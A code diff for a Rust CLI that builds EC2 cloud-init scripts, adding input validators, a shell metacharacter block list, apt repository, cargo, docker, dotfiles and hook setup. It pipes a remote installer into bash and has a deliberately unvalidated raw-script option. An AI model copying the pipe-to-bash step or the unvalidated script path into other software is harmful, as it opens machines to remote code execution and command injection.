@@ -1,16 +1,28 @@
-use crate::git::GitUserConfig;
-use crate::profile::Profile;
+use std::collections::BTreeMap;
+
+use crate::config::Settings;
+use crate::git::{GitUserConfig, NO_CHECKOUT_REF_PREFIX};
+use crate::profile::{AptRepo, CargoPackage, DockerConfig, DotfilesConfig, Profile};
 use crate::{Ec2CliError, Result};
 
+use super::{GIT_READY_MARKER, READY_MARKER};
+
 /// Characters that are dangerous in shell contexts
 const SHELL_METACHARACTERS: &[char] = &[
     ';', '&', '|', '$', '`', '(', ')', '{', '}', '[', ']', '<', '>', '\'', '"', '\\', '\n', '\r',
     '!', '#', '*', '?', '~',
 ];
 
+/// Largest compose file a profile can embed; EC2 caps the whole user data
+/// script at 16 KB
+const MAX_COMPOSE_FILE_BYTES: usize = 8 * 1024;
+
+/// Heredoc delimiter the compose file is written with
+const COMPOSE_EOF: &str = "COMPOSEEOF";
+
 /// Validate a string is safe to use in shell commands.
 /// Rejects strings containing shell metacharacters that could enable command injection.
-fn validate_shell_safe(s: &str, context: &str) -> Result<()> {
+pub fn validate_shell_safe(s: &str, context: &str) -> Result<()> {
     if s.chars().any(|c| SHELL_METACHARACTERS.contains(&c)) {
         return Err(Ec2CliError::ProfileValidation(format!(
             "Invalid characters in {}: '{}'. Shell metacharacters are not allowed.",
@@ -27,7 +39,7 @@ fn validate_shell_safe(s: &str, context: &str) -> Result<()> {
 }
 
 /// Validate an environment variable key (more restrictive - alphanumeric and underscore only)
-fn validate_env_key(key: &str) -> Result<()> {
+pub fn validate_env_key(key: &str) -> Result<()> {
     if key.is_empty() {
         return Err(Ec2CliError::ProfileValidation(
             "Environment variable key cannot be empty".to_string(),
@@ -48,6 +60,39 @@ fn validate_env_key(key: &str) -> Result<()> {
     Ok(())
 }
 
+/// The variables exported on the instance: the profile's `environment` plus each
+/// `environment_passthrough` variable that `lookup_env` finds set locally (the local
+/// value wins over the profile's). Unset or empty passthrough variables are skipped;
+/// every key and value is validated.
+fn instance_environment(
+    profile: &Profile,
+    lookup_env: impl Fn(&str) -> Option<String>,
+) -> Result<BTreeMap<String, String>> {
+    let mut environment = BTreeMap::new();
+    for (key, value) in &profile.environment {
+        validate_env_key(key)?;
+        validate_shell_safe(value, &format!("environment variable value for '{}'", key))?;
+        environment.insert(key.clone(), value.clone());
+    }
+
+    for key in &profile.environment_passthrough {
+        validate_env_key(key)?;
+        let Some(value) = lookup_env(key).filter(|value| !value.is_empty()) else {
+            continue;
+        };
+        // Local values may be secrets, so don't echo them back in the error
+        validate_shell_safe(&value, key).map_err(|_| {
+            Ec2CliError::ProfileValidation(format!(
+                "Local environment variable {} (in environment_passthrough) contains shell \
+                 metacharacters",
+                key
+            ))
+        })?;
+        environment.insert(key.clone(), value);
+    }
+    Ok(environment)
+}
+
 /// Validate a project name is safe to use in paths and shell commands
 pub fn validate_project_name(name: &str) -> Result<()> {
     if name.is_empty() {
@@ -147,6 +192,429 @@ fn validate_git_config_value(value: &str, context: &str) -> Result<()> {
     Ok(())
 }
 
+/// Validate a git URL for `cargo install --git`
+fn validate_git_url(url: &str, context: &str) -> Result<()> {
+    validate_shell_safe(url, context)?;
+    let known_scheme = ["https://", "http://", "ssh://", "git://"]
+        .iter()
+        .any(|scheme| url.starts_with(scheme));
+    if !known_scheme && !url.starts_with("git@") {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Invalid {}: '{}'. Use an https://, ssh://, git://, or git@host:path URL",
+            context, url
+        )));
+    }
+    Ok(())
+}
+
+/// Validate a cargo registry name (it also becomes part of an environment variable)
+fn validate_registry_name(name: &str) -> Result<()> {
+    let valid = name.starts_with(|c: char| c.is_ascii_alphabetic())
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
+    if !valid {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Invalid cargo registry name: '{}'. Use letters, digits, dash, and underscore",
+            name
+        )));
+    }
+    Ok(())
+}
+
+/// Build the commands that add apt repositories, validating every field. Each
+/// non-PPA repository gets its own source list and, with `key_url`, keyring.
+fn apt_repository_commands(repos: &[AptRepo]) -> Result<String> {
+    let mut commands = String::new();
+
+    for (i, repo) in repos.iter().enumerate() {
+        validate_shell_safe(&repo.uri, "apt repository URI")?;
+
+        if repo.uri.starts_with("ppa:") {
+            if repo.key_url.is_some() {
+                return Err(Ec2CliError::ProfileValidation(format!(
+                    "apt repository '{}': PPAs are signed by Launchpad, remove key_url",
+                    repo.uri
+                )));
+            }
+            commands.push_str(&format!("add-apt-repository -y {}\n", repo.uri));
+            continue;
+        }
+
+        if !repo.uri.starts_with("https://") && !repo.uri.starts_with("http://") {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "Invalid apt repository URI: '{}'. Use an http(s):// URL or ppa:owner/name",
+                repo.uri
+            )));
+        }
+        // The suite is the deb line's second field; without exactly one word
+        // there apt reads the components in its place
+        if repo.suite.trim().is_empty() || repo.suite.contains(char::is_whitespace) {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "apt repository '{}' needs a suite, e.g. \"jammy\" or \"stable\"",
+                repo.uri
+            )));
+        }
+        validate_shell_safe(&repo.suite, "apt repository suite")?;
+        for component in &repo.components {
+            validate_shell_safe(component, "apt repository component")?;
+        }
+
+        let name = format!("ec2-cli-{}", i);
+        let mut options = String::new();
+        if let Some(ref key_url) = repo.key_url {
+            validate_shell_safe(key_url, "apt repository key_url")?;
+            if !key_url.starts_with("https://") {
+                return Err(Ec2CliError::ProfileValidation(format!(
+                    "Invalid apt repository key_url: '{}'. Signing keys must be fetched over https://",
+                    key_url
+                )));
+            }
+            let keyring = format!("/etc/apt/keyrings/{}.gpg", name);
+            commands.push_str("install -d -m 0755 /etc/apt/keyrings\n");
+            commands.push_str(&format!(
+                "curl -fsSL {} | gpg --batch --yes --dearmor -o {}\n",
+                key_url, keyring
+            ));
+            options = format!("[signed-by={}] ", keyring);
+        }
+
+        let mut source = format!("deb {}{} {}", options, repo.uri, repo.suite);
+        for component in &repo.components {
+            source.push(' ');
+            source.push_str(component);
+        }
+        commands.push_str(&format!(
+            "echo '{}' > /etc/apt/sources.list.d/{}.list\n",
+            source, name
+        ));
+    }
+
+    Ok(commands)
+}
+
+/// Prefix of the environment variables cargo reads for a registry, e.g.
+/// `CARGO_REGISTRIES_MY_REGISTRY` for `my-registry`
+fn registry_env_prefix(registry: &str) -> String {
+    format!(
+        "CARGO_REGISTRIES_{}",
+        registry.to_ascii_uppercase().replace('-', "_")
+    )
+}
+
+/// Check an SSM parameter name: letters, digits, and `_.-/`, as SSM allows
+fn validate_parameter_name(name: &str, context: &str) -> Result<()> {
+    let valid = !name.is_empty()
+        && name.len() <= 2048
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-' | '/'));
+    if !valid {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Invalid SSM parameter name in {}: '{}'",
+            context, name
+        )));
+    }
+    Ok(())
+}
+
+/// Shell lines, run as the instance user before cargo installs that need a
+/// registry token, that point the AWS CLI at the instance's region
+const REGION_FROM_IMDS: &str = "\
+IMDS_TOKEN=$(curl -fsS -X PUT http://169.254.169.254/latest/api/token -H \"X-aws-ec2-metadata-token-ttl-seconds: 300\")
+export AWS_DEFAULT_REGION=$(curl -fsS -H \"X-aws-ec2-metadata-token: $IMDS_TOKEN\" http://169.254.169.254/latest/meta-data/placement/region)
+";
+
+/// Build the `cargo install` command for a package, validating every field.
+///
+/// A registry token is fetched from SSM by the command itself when it runs on the
+/// instance, so the secret is in neither the user data nor any command line.
+fn cargo_install_command(pkg: &CargoPackage) -> Result<String> {
+    let spec = match pkg {
+        CargoPackage::Name(name) => {
+            validate_shell_safe(name, "cargo package name")?;
+            return Ok(format!("cargo install {}", name));
+        }
+        CargoPackage::Spec(spec) => spec,
+    };
+
+    validate_shell_safe(&spec.name, "cargo package name")?;
+    if spec.token_env.is_some() {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Cargo package '{}' sets token_env, which put the token in the instance user \
+             data. Store the token in an SSM SecureString parameter and set \
+             token_parameter instead",
+            spec.name
+        )));
+    }
+    let context = |field: &str| format!("{} for cargo package '{}'", field, spec.name);
+    let mut env = Vec::new();
+    let mut command = String::from("cargo install");
+
+    let git_refs: Vec<_> = [
+        ("rev", &spec.rev),
+        ("tag", &spec.tag),
+        ("branch", &spec.branch),
+    ]
+    .into_iter()
+    .filter_map(|(flag, value)| value.as_ref().map(|value| (flag, value)))
+    .collect();
+    if git_refs.len() > 1 {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Cargo package '{}' can only set one of rev, tag, and branch",
+            spec.name
+        )));
+    }
+
+    if let Some(ref git) = spec.git {
+        if spec.registry.is_some() {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "Cargo package '{}' cannot set both git and registry",
+                spec.name
+            )));
+        }
+        validate_git_url(git, &context("git URL"))?;
+        command.push_str(&format!(" --git {}", git));
+
+        if let Some((flag, value)) = git_refs.first() {
+            validate_shell_safe(value, &context(flag))?;
+            if value.starts_with('-') {
+                return Err(Ec2CliError::ProfileValidation(format!(
+                    "Invalid {}: '{}'",
+                    context(flag),
+                    value
+                )));
+            }
+            command.push_str(&format!(" --{} {}", flag, value));
+        }
+    } else if let Some((flag, _)) = git_refs.first() {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Cargo package '{}' sets {} without git",
+            spec.name, flag
+        )));
+    }
+
+    if let Some(ref registry) = spec.registry {
+        validate_registry_name(registry)?;
+        let prefix = registry_env_prefix(registry);
+
+        if let Some(ref index) = spec.index {
+            validate_shell_safe(index, &context("registry index"))?;
+            let known_scheme = ["sparse+https://", "https://", "ssh://", "git://"]
+                .iter()
+                .any(|scheme| index.starts_with(scheme));
+            if !known_scheme {
+                return Err(Ec2CliError::ProfileValidation(format!(
+                    "Invalid {}: '{}'. Use a sparse+https:// or git URL",
+                    context("registry index"),
+                    index
+                )));
+            }
+            env.push(format!("{}_INDEX={}", prefix, index));
+        }
+
+        if let Some(ref parameter) = spec.token_parameter {
+            validate_parameter_name(parameter, &context("token_parameter"))?;
+            // Expanded by the instance user's shell, which passes it to cargo only
+            env.push(format!(
+                "{}_TOKEN=\"$(aws ssm get-parameter --name {} --with-decryption \
+                 --query Parameter.Value --output text)\"",
+                prefix, parameter
+            ));
+        }
+
+        command.push_str(&format!(" --registry {}", registry));
+    } else if spec.index.is_some() || spec.token_parameter.is_some() {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Cargo package '{}' sets index or token_parameter without registry",
+            spec.name
+        )));
+    }
+
+    if let Some(ref version) = spec.version {
+        validate_shell_safe(version, &context("version"))?;
+        command.push_str(&format!(" --version {}", version));
+    }
+    if !spec.features.is_empty() {
+        for feature in &spec.features {
+            validate_shell_safe(feature, &context("feature"))?;
+        }
+        command.push_str(&format!(" --features {}", spec.features.join(",")));
+    }
+    if spec.locked {
+        command.push_str(" --locked");
+    }
+
+    command.push(' ');
+    command.push_str(&spec.name);
+
+    // Registry settings only apply to this command
+    env.push(command);
+    Ok(env.join(" "))
+}
+
+/// Post-receive hook lines that run the profile's `on_push` command after a checkout.
+///
+/// The hook runs as the user who pushed, so the command runs as them too; it's run in
+/// a login shell (for PATH from rustup, nvm, etc.) from the work tree. A failure is
+/// reported to the pusher, but can't undo the push. Shell syntax is only allowed
+/// when the profile opted in with `allow_raw_user_data`.
+fn on_push_command(
+    command: Option<&str>,
+    allow_raw: bool,
+    username: &str,
+    project_name: &str,
+) -> Result<String> {
+    let Some(command) = command else {
+        return Ok(String::new());
+    };
+    if !allow_raw {
+        validate_shell_safe(command, "hooks.on_push")?;
+    }
+
+    // A newline could end the hook's heredoc early
+    if command.contains(['\n', '\r', '\0']) {
+        return Err(Ec2CliError::ProfileValidation(
+            "hooks.on_push must be a single line".to_string(),
+        ));
+    }
+
+    let lines = [
+        "echo 'Running on_push command...'".to_string(),
+        format!(
+            "(cd /home/{}/work/{} && unset GIT_DIR && bash -lc {}) \\",
+            username,
+            project_name,
+            shell_escape::unix::escape(command.into())
+        ),
+        "    || echo \"on_push command failed (exit $?)\" >&2".to_string(),
+    ];
+
+    // Indented to sit inside the hook's refs/heads/* case arm
+    Ok(lines
+        .iter()
+        .map(|line| format!("            {}\n", line))
+        .collect())
+}
+
+/// Commands that clone a dotfiles repository into the user's home and run its
+/// install command, both as the user. A failure only warns, so a broken dotfiles
+/// repo doesn't keep the instance from becoming ready.
+fn dotfiles_commands(dotfiles: &DotfilesConfig, username: &str) -> Result<String> {
+    validate_shell_safe(&dotfiles.repo, "dotfiles repo")?;
+    // The instance has no credentials for other git remotes
+    if !dotfiles.repo.starts_with("https://") {
+        return Err(Ec2CliError::ProfileValidation(format!(
+            "Invalid dotfiles repo: '{}'. Use an https:// URL",
+            dotfiles.repo
+        )));
+    }
+    if let Some(ref command) = dotfiles.install_command {
+        validate_shell_safe(command, "dotfiles install_command")?;
+    }
+
+    let clone = format!(
+        "su - {} -c 'git clone --depth 1 {} ~/.dotfiles'",
+        username, dotfiles.repo
+    );
+    let clone_failed = "echo 'Warning: could not clone dotfiles repo'";
+
+    let mut commands = String::from("echo 'Setting up dotfiles...'\n");
+    match dotfiles.install_command {
+        Some(ref command) => {
+            commands.push_str(&format!("if {}; then\n", clone));
+            commands.push_str(&format!(
+                "    su - {} -c 'cd ~/.dotfiles && {}' || echo 'Warning: dotfiles install_command failed'\n",
+                username, command
+            ));
+            commands.push_str(&format!("else\n    {}\nfi\n\n", clone_failed));
+        }
+        None => commands.push_str(&format!("{} || {}\n\n", clone, clone_failed)),
+    }
+    Ok(commands)
+}
+
+/// Whether `docker run` arguments include `-d`/`--detach`, alone or in a
+/// combined short flag like `-itd`
+fn runs_detached(args: &str) -> bool {
+    args.split_whitespace().any(|arg| {
+        arg == "--detach"
+            || arg == "--detach=true"
+            || arg.strip_prefix('-').is_some_and(|flags| {
+                !flags.is_empty()
+                    && flags.chars().all(|c| c.is_ascii_alphabetic())
+                    && flags.contains('d')
+            })
+    })
+}
+
+/// Commands that write the profile's compose file to `~/work` and start it, then
+/// start each `docker run` container. Containers run under the root Docker daemon;
+/// one that fails to start only warns.
+fn docker_commands(docker: &DockerConfig, username: &str) -> Result<String> {
+    if let Some(ref compose) = docker.compose_file {
+        if compose.trim().is_empty() {
+            return Err(Ec2CliError::ProfileValidation(
+                "docker.compose_file cannot be empty".to_string(),
+            ));
+        }
+        if compose.len() > MAX_COMPOSE_FILE_BYTES {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "docker.compose_file is {} bytes; the limit is {} (user data is capped at 16 KB)",
+                compose.len(),
+                MAX_COMPOSE_FILE_BYTES
+            )));
+        }
+        // A line matching the delimiter would end the heredoc early
+        if compose.lines().any(|line| line.trim() == COMPOSE_EOF) {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "docker.compose_file cannot contain a line reading '{}'",
+                COMPOSE_EOF
+            )));
+        }
+    }
+    for args in &docker.run {
+        validate_shell_safe(args, "docker.run command")?;
+        // A foreground container would block the rest of the setup script forever
+        if !runs_detached(args) {
+            return Err(Ec2CliError::ProfileValidation(format!(
+                "docker.run entry '{}' must include -d so the container runs in the background",
+                args
+            )));
+        }
+    }
+
+    let mut commands = String::new();
+    if let Some(ref compose) = docker.compose_file {
+        let path = format!("/home/{}/work/compose.yaml", username);
+        commands.push_str("echo 'Starting docker compose services...'\n");
+        // docker.io doesn't include the compose plugin
+        commands.push_str("apt-get install -y docker-compose-v2\n");
+        commands.push_str(&format!("cat > {} << '{}'\n", path, COMPOSE_EOF));
+        commands.push_str(compose);
+        if !compose.ends_with('\n') {
+            commands.push('\n');
+        }
+        commands.push_str(&format!("{}\n", COMPOSE_EOF));
+        commands.push_str(&format!("chown {}:{} {}\n", username, username, path));
+        commands.push_str(&format!(
+            "docker compose -f {} up -d || echo 'Warning: docker compose up failed'\n\n",
+            path
+        ));
+    }
+    if !docker.run.is_empty() {
+        commands.push_str("echo 'Starting docker containers...'\n");
+        for args in &docker.run {
+            commands.push_str(&format!(
+                "docker run {} || echo 'Warning: docker run {} failed'\n",
+                args, args
+            ));
+        }
+        commands.push('\n');
+    }
+    Ok(commands)
+}
+
 /// Generate cloud-init user data script from profile
 pub fn generate_user_data(
     profile: &Profile,
@@ -154,9 +622,11 @@ pub fn generate_user_data(
     username: &str,
     ssh_public_key: Option<&str>,
     git_user_config: Option<&GitUserConfig>,
+    init_log_path: &str,
 ) -> Result<String> {
     // Validate username before using in shell commands
     validate_username(username)?;
+    Settings::validate_init_log_path(init_log_path)?;
 
     // Validate git config values if provided
     if let Some(config) = git_user_config {
@@ -168,10 +638,13 @@ pub fn generate_user_data(
         }
     }
 
+    // Timezone and locale are interpolated into commands below
+    profile.system.validate()?;
+
     let mut script = String::from("#!/bin/bash\nset -ex\n\n");
 
     // Log to file for debugging
-    script.push_str("exec > >(tee /var/log/ec2-cli-init.log) 2>&1\n\n");
+    script.push_str(&format!("exec > >(tee {}) 2>&1\n\n", init_log_path));
 
     // Add SSH public key FIRST - before any blocking operations
     // This ensures SSH access is available as soon as SSM is ready
@@ -199,6 +672,31 @@ pub fn generate_user_data(
         ));
     }
 
+    // Apply the timezone early so the rest of the log uses local timestamps.
+    // A name the AMI doesn't know only warns rather than aborting the setup.
+    if let Some(ref timezone) = profile.system.timezone {
+        script.push_str(&format!("echo 'Setting timezone to {}...'\n", timezone));
+        script.push_str(&format!(
+            "timedatectl set-timezone {} || echo 'Warning: unknown timezone {}'\n\n",
+            timezone, timezone
+        ));
+    }
+    if let Some(ref locale) = profile.system.locale {
+        script.push_str(&format!("echo 'Configuring locale {}...'\n", locale));
+        script.push_str(&format!("locale-gen {}\n", locale));
+        script.push_str(&format!("update-locale LANG={}\n\n", locale));
+    }
+
+    // Swap before any builds, so memory-hungry compiles don't get OOM-killed
+    if let Some(swap_gb) = profile.system.swap_gb {
+        script.push_str(&format!("echo 'Creating {} GiB swapfile...'\n", swap_gb));
+        script.push_str(&format!("fallocate -l {}G /swapfile\n", swap_gb));
+        script.push_str("chmod 600 /swapfile\n");
+        script.push_str("mkswap /swapfile\n");
+        script.push_str("swapon /swapfile\n");
+        script.push_str("echo '/swapfile none swap sw 0 0' >> /etc/fstab\n\n");
+    }
+
     // Configure git user identity if provided
     if let Some(config) = git_user_config {
         if config.has_config() {
@@ -247,7 +745,8 @@ pub fn generate_user_data(
         ));
 
         // Create post-receive hook that checks out whatever branch is pushed
-        // Handles: arbitrary branch names, skips tag pushes and branch deletions
+        // Handles: arbitrary branch names, skips tag pushes and branch deletions.
+        // Refs pushed with `push --no-checkout` are stored without touching the working tree.
         script.push_str(&format!(
             r#"cat > /home/{}/repos/{}.git/hooks/post-receive << 'HOOKEOF'
 #!/bin/bash
@@ -261,12 +760,25 @@ while read oldrev newrev refname; do
         refs/heads/*)
             branch="${{refname#refs/heads/}}"
             GIT_WORK_TREE=/home/{}/work/{} git checkout -f "$branch"
+{}            ;;
+        {}*)
+            # Pushed without checkout; leave the working tree alone
             ;;
     esac
 done
 HOOKEOF
 "#,
-            username, name, username, name
+            username,
+            name,
+            username,
+            name,
+            on_push_command(
+                profile.hooks.on_push.as_deref(),
+                profile.allow_raw_user_data,
+                username,
+                name
+            )?,
+            NO_CHECKOUT_REF_PREFIX
         ));
         script.push_str(&format!(
             "chmod +x /home/{}/repos/{}.git/hooks/post-receive\n",
@@ -349,19 +861,24 @@ cat << EOF
 │                                                                  │
 ├──────────────────────────────────────────────────────────────────┤
 │                                                                  │
-│   Logs         cat /var/log/ec2-cli-init.log                     │
-│   Ready?       ls ~/.ec2-cli-ready                               │
+│   Logs         cat {log:<46}│
+│   Ready?       ls ~/{ready:<45}│
 │                                                                  │
 └──────────────────────────────────────────────────────────────────┘
 EOF
 MOTDEOF
 "#,
-            name
+            name,
+            log = init_log_path,
+            ready = READY_MARKER,
         ));
         script.push_str("chmod +x /etc/update-motd.d/99-ec2-cli\n\n");
 
         // Create marker file to signal git repo is ready
-        script.push_str(&format!("touch /home/{}/.ec2-cli-git-ready\n\n", username));
+        script.push_str(&format!(
+            "touch /home/{}/{}\n\n",
+            username, GIT_READY_MARKER
+        ));
     }
 
     // Ensure SSM agent is running (pre-installed on Ubuntu 18.04+ AMIs)
@@ -382,14 +899,30 @@ MOTDEOF
     script.push_str("fi\n\n");
 
     // Validate and install system packages (Ubuntu/apt-get only)
+    let packages = &profile.packages;
+    if !packages.apt_repositories.is_empty() {
+        script.push_str("echo 'Adding apt repositories...'\n");
+        script.push_str(&apt_repository_commands(&packages.apt_repositories)?);
+    }
     script.push_str("echo 'Installing system packages...'\n");
     script.push_str("apt-get update\n");
-    if !profile.packages.system.is_empty() {
-        for pkg in &profile.packages.system {
-            validate_shell_safe(pkg, "system package name")?;
-        }
-        let packages = profile.packages.system.join(" ");
-        script.push_str(&format!("apt-get install -y {}\n\n", packages));
+    for pkg in packages
+        .system
+        .iter()
+        .chain(&packages.system_arm64)
+        .chain(&packages.system_x86_64)
+    {
+        validate_shell_safe(pkg, "system package name")?;
+    }
+    let system_packages: Vec<&str> = packages
+        .system_for_arch(&profile.instance.ami.architecture)
+        .map(String::as_str)
+        .collect();
+    if !system_packages.is_empty() {
+        script.push_str(&format!(
+            "apt-get install -y {}\n\n",
+            system_packages.join(" ")
+        ));
     }
 
     // Install Docker
@@ -399,6 +932,11 @@ MOTDEOF
     script.push_str("systemctl enable docker\n");
     script.push_str("systemctl start docker\n\n");
 
+    // Containers come right after Docker so they're starting while the rest installs
+    if let Some(ref docker) = profile.docker {
+        script.push_str(&docker_commands(docker, username)?);
+    }
+
     // Install Rust if enabled
     if profile.packages.rust.enabled {
         // Validate rust components
@@ -431,30 +969,40 @@ MOTDEOF
 
         // Install cargo packages
         if !profile.packages.cargo.is_empty() {
-            // Validate cargo package names
-            for pkg in &profile.packages.cargo {
-                validate_shell_safe(pkg, "cargo package name")?;
-            }
+            // Validate and build install commands before emitting anything
+            let commands = profile
+                .packages
+                .cargo
+                .iter()
+                .map(cargo_install_command)
+                .collect::<Result<Vec<_>>>()?;
+            // Registry tokens are read from SSM with the AWS CLI, using the instance role
+            let has_token = profile.packages.cargo.iter().any(
+                |pkg| matches!(pkg, CargoPackage::Spec(spec) if spec.token_parameter.is_some()),
+            );
             script.push_str("echo 'Installing cargo packages...'\n");
+            if has_token {
+                script.push_str("command -v aws >/dev/null || snap install aws-cli --classic\n");
+            }
             script.push_str(&format!("su - {} -c '\n", username));
             script.push_str("source ~/.cargo/env\n");
-            for pkg in &profile.packages.cargo {
-                script.push_str(&format!("cargo install {}\n", pkg));
+            if has_token {
+                script.push_str(REGION_FROM_IMDS);
+            }
+            for command in commands {
+                script.push_str(&command);
+                script.push('\n');
             }
             script.push_str("'\n\n");
         }
     }
 
     // Set environment variables
-    if !profile.environment.is_empty() {
-        // Validate environment variable keys and values
-        for (key, value) in &profile.environment {
-            validate_env_key(key)?;
-            validate_shell_safe(value, &format!("environment variable value for '{}'", key))?;
-        }
+    let environment = instance_environment(profile, |name| std::env::var(name).ok())?;
+    if !environment.is_empty() {
         script.push_str("echo 'Setting environment variables...'\n");
         script.push_str(&format!("cat >> /home/{}/.bashrc << 'ENVEOF'\n", username));
-        for (key, value) in &profile.environment {
+        for (key, value) in &environment {
             script.push_str(&format!("export {}=\"{}\"\n", key, value));
         }
         script.push_str("ENVEOF\n\n");
@@ -468,21 +1016,43 @@ MOTDEOF
     ));
 
     // Install AgentFS (requires lifting AppArmor restrictions for unprivileged user namespaces)
-    script.push_str("echo 'Configuring AppArmor for AgentFS...'\n");
-    script.push_str("cat > /etc/sysctl.d/99-agentfs.conf << 'AGENTFSEOF'\n");
-    script.push_str("kernel.apparmor_restrict_unprivileged_userns = 0\n");
-    script.push_str("AGENTFSEOF\n");
-    script.push_str("sysctl -p /etc/sysctl.d/99-agentfs.conf\n\n");
+    if profile.tools.agentfs {
+        // Only kernels with the Ubuntu AppArmor patch expose this knob
+        script.push_str("echo 'Configuring AppArmor for AgentFS...'\n");
+        script
+            .push_str("if test -e /proc/sys/kernel/apparmor_restrict_unprivileged_userns; then\n");
+        script.push_str("cat > /etc/sysctl.d/99-agentfs.conf << 'AGENTFSEOF'\n");
+        script.push_str("kernel.apparmor_restrict_unprivileged_userns = 0\n");
+        script.push_str("AGENTFSEOF\n");
+        script.push_str("sysctl -p /etc/sysctl.d/99-agentfs.conf\n");
+        script.push_str("fi\n\n");
+
+        script.push_str("echo 'Installing AgentFS...'\n");
+        script.push_str(&format!(
+            "su - {} -c 'curl -fsSL https://agentfs.ai/install | bash'\n\n",
+            username
+        ));
+    }
 
-    script.push_str("echo 'Installing AgentFS...'\n");
-    script.push_str(&format!(
-        "su - {} -c 'curl -fsSL https://agentfs.ai/install | bash'\n\n",
-        username
-    ));
+    // Dotfiles go last among the user's setup, so install scripts can use the tools above
+    if let Some(ref dotfiles) = profile.dotfiles {
+        script.push_str(&dotfiles_commands(dotfiles, username)?);
+    }
+
+    // Run the profile's raw script. This is deliberately not validated: the profile
+    // opted in with `allow_raw_user_data`, so its author owns any injection risk.
+    if let Some(extra) = profile.raw_user_data() {
+        script.push_str("echo 'Running user_data_extra...'\n");
+        script.push_str(extra);
+        if !extra.ends_with('\n') {
+            script.push('\n');
+        }
+        script.push('\n');
+    }
 
-    // Signal completion
+    // Signal completion (must stay last so the ready marker means everything ran)
     script.push_str("echo 'ec2-cli initialization complete!'\n");
-    script.push_str(&format!("touch /home/{}/.ec2-cli-ready\n", username));
+    script.push_str(&format!("touch /home/{}/{}\n", username, READY_MARKER));
 
     Ok(script)
 }
@@ -490,13 +1060,22 @@ MOTDEOF
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::profile::Profile;
+    use crate::aws::ec2::instance::SetupMarker;
+    use crate::profile::{CargoPackageSpec, DotfilesConfig, Profile};
+    use crate::user_data::DEFAULT_INIT_LOG_PATH;
 
     #[test]
     fn test_generate_basic_user_data() {
         let profile = Profile::default_profile();
-        let script =
-            generate_user_data(&profile, Some("test-project"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         assert!(script.contains("#!/bin/bash"));
         assert!(script.contains("rustup"));
@@ -510,7 +1089,9 @@ mod tests {
     #[test]
     fn test_generate_without_project() {
         let profile = Profile::default_profile();
-        let script = generate_user_data(&profile, None, "ubuntu", None, None).unwrap();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
 
         assert!(script.contains("#!/bin/bash"));
         assert!(!script.contains("git init --bare"));
@@ -520,7 +1101,15 @@ mod tests {
     #[test]
     fn test_generate_with_ubuntu_user() {
         let profile = Profile::default_profile();
-        let script = generate_user_data(&profile, Some("myproject"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("myproject"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         assert!(script.contains("su - ubuntu"));
         assert!(script.contains("/home/ubuntu/"));
@@ -538,6 +1127,7 @@ mod tests {
             "ubuntu",
             Some(ssh_key),
             None,
+            DEFAULT_INIT_LOG_PATH,
         )
         .unwrap();
 
@@ -552,7 +1142,9 @@ mod tests {
     #[test]
     fn test_generate_without_ssh_key() {
         let profile = Profile::default_profile();
-        let script = generate_user_data(&profile, None, "ubuntu", None, None).unwrap();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
 
         assert!(!script.contains("Configuring SSH public key"));
         assert!(!script.contains("authorized_keys"));
@@ -570,6 +1162,7 @@ mod tests {
             "ubuntu",
             Some(ssh_key),
             None,
+            DEFAULT_INIT_LOG_PATH,
         )
         .unwrap();
 
@@ -589,8 +1182,15 @@ mod tests {
     #[test]
     fn test_git_ready_marker_created_after_repo_setup() {
         let profile = Profile::default_profile();
-        let script =
-            generate_user_data(&profile, Some("test-project"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         let repo_setup_pos = script.find("git init --bare").expect("git init not found");
         let marker_pos = script.find(".ec2-cli-git-ready").expect("marker not found");
@@ -601,11 +1201,36 @@ mod tests {
         );
     }
 
+    #[test]
+    fn test_markers_match_what_up_waits_for() {
+        let profile = Profile::default_profile();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
+
+        for marker in [SetupMarker::GitReady, SetupMarker::Complete] {
+            assert!(script.contains(&format!("touch {}\n", marker.path("ubuntu"))));
+        }
+    }
+
     #[test]
     fn test_docker_group_setup_before_package_installation() {
         let profile = Profile::default_profile();
-        let script =
-            generate_user_data(&profile, Some("test-project"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         let docker_group_pos = script
             .find("Setting up docker group")
@@ -623,8 +1248,15 @@ mod tests {
     #[test]
     fn test_docker_group_uses_force_flag() {
         let profile = Profile::default_profile();
-        let script =
-            generate_user_data(&profile, Some("test-project"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         assert!(
